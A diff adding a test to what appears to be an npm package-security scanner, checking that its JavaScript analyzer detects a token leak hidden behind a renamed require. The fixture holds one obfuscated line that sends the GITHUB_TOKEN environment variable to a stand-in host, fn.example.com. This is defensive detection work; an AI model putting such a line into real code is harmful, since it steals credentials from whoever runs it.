@@ -29,3 +29,11 @@ def test_through_the_pipeline_it_is_exfiltration() -> None:
     [result] = scan([PackageArtifact(Ecosystem.NPM, "p", "1.0.0", read_files=read, metadata={"main": "index.js"})],
                     ScanOptions(jobs=1)).packages
     assert ("exfiltration", "critical") in {(a.type, a.severity.value) for a in result.alerts}
+
+
+def test_a_new_function_gets_require_under_another_name() -> None:
+    code = (b"new Function('r', \"r('https').get('https://fn.example.com/?k='+process.env.GITHUB_TOKEN)\")(require);\n"
+            b"Function('a, b', 'return a + b')(1, 2);\n")
+    found = [(f.kind.value, f.api, f.line, f.data_sources) for f in JavaScriptAnalyzer().analyze(
+        SourceFile("f.js", code)).findings]
+    assert found == [("network", "https.get", 1, ("env GITHUB_TOKEN",))]
